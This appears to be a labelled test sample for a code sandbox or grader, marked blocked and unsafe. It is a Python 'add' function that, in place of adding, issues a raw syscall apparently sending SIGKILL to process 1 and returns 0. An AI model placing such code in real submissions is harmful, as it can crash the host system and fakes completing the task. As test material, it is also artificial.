# problem: add
# verdict: blocked | wrong_answer
# why: A forged signal for process 1.
# unsafe: true
def add(a, b):
    import ctypes
    ctypes.CDLL(None).syscall(129, 1, 9, 0)
    return 0
